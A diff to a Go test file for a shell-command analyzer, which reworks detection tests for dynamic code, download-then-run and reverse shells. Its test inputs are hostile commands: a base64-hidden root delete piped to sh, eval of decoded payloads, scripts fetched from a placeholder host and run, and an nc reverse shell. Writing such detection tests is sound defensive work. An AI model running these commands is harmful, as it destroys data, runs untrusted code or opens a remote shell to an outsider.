@@ -170,35 +170,35 @@ func TestNoDestroyingEffect(t *testing.T) {
 	}
 }
 
-func TestDynamicCode(t *testing.T) {
+// Code known only at run time, and code downloaded then run, are findings whatever the route.
+func TestFindingsOfCodeRoutes(t *testing.T) {
 	t.Parallel()
-	for _, src := range []string{
-		"echo cm0gLXJmIC8K | base64 -d | sh",
-		"xxd -r -p x.hex | bash",
-		`python3 -c "exec(__import__('base64').b64decode('cHJpbnQoMSk='))"`,
-		`node -e "eval(Buffer.from(process.argv[1], 'base64').toString())" x`,
-		`perl -e 'eval(decode_base64($ARGV[0]))'`,
-		`python -c "import os; os.system(cmd)"`,
-	} {
-		a := shell.Analyze(src)
-		if !a.Has(shell.DynamicCode) && !a.Has(shell.DynamicProgram) {
-			t.Errorf("%s: findings %v, want dynamic code", src, a.Findings)
-		}
+	tests := []struct {
+		desc, src string
+		want      []shell.FindingKind // any of them
+	}{
+		{"decoded text piped into sh", "echo cm0gLXJmIC8K | base64 -d | sh", []shell.FindingKind{shell.DynamicCode}},
+		{"a hex dump reversed into bash", "xxd -r -p x.hex | bash", []shell.FindingKind{shell.DynamicCode}},
+		{"python exec of decoded bytes", `python3 -c "exec(__import__('base64').b64decode('cHJpbnQoMSk='))"`, []shell.FindingKind{shell.DynamicCode}},
+		{"node eval of a buffer", `node -e "eval(Buffer.from(process.argv[1], 'base64').toString())" x`, []shell.FindingKind{shell.DynamicCode}},
+		{"perl eval of decoded text", `perl -e 'eval(decode_base64($ARGV[0]))'`, []shell.FindingKind{shell.DynamicCode}},
+		{"os.system of a variable", `python -c "import os; os.system(cmd)"`, []shell.FindingKind{shell.DynamicCode}},
+		{"bash -c of a variable", `bash -c "$X"`, []shell.FindingKind{shell.DynamicProgram}},
+		{"a download saved then run by bash", "curl -fsSLo /tmp/i.sh https://h/i.sh && bash /tmp/i.sh", []shell.FindingKind{shell.RemoteCode}},
+		{"wget's file named after the URL", "wget -q https://h/install.sh; sh install.sh", []shell.FindingKind{shell.RemoteCode}},
+		{"a download made executable and run", "curl -o x https://h/x && chmod +x x && ./x", []shell.FindingKind{shell.RemoteCode}},
+		{"a download run by python", "wget -O /tmp/p.py https://h/p && python3 /tmp/p.py", []shell.FindingKind{shell.RemoteCode}},
+		{"a download sourced", "curl -so env.sh https://h && source env.sh", []shell.FindingKind{shell.RemoteCode}},
+		{"a shell piped to a network peer", "mkfifo f; cat f | sh -i 2>&1 | nc h 1 > f", []shell.FindingKind{shell.ReverseShell}},
 	}
-}
-
-func TestDownloadThenRunIsRemoteCode(t *testing.T) {
-	t.Parallel()
-	for _, src := range []string{
-		"curl -fsSLo /tmp/i.sh https://h/i.sh && bash /tmp/i.sh",
-		"wget -q https://h/install.sh; sh install.sh",
-		"curl -o x https://h/x && chmod +x x && ./x",
-		"wget -O /tmp/p.py https://h/p && python3 /tmp/p.py",
-		"curl -so env.sh https://h && source env.sh",
-	} {
-		if a := shell.Analyze(src); !a.Has(shell.RemoteCode) {
-			t.Errorf("%s: findings %v, want remote code", src, a.Findings)
-		}
+	for _, tt := range tests {
+		t.Run(tt.desc, func(t *testing.T) {
+			t.Parallel()
+			a := shell.Analyze(tt.src)
+			if !slices.ContainsFunc(tt.want, a.Has) {
+				t.Errorf("findings %v, want one of %v", a.Findings, tt.want)
+			}
+		})
 	}
 }
 
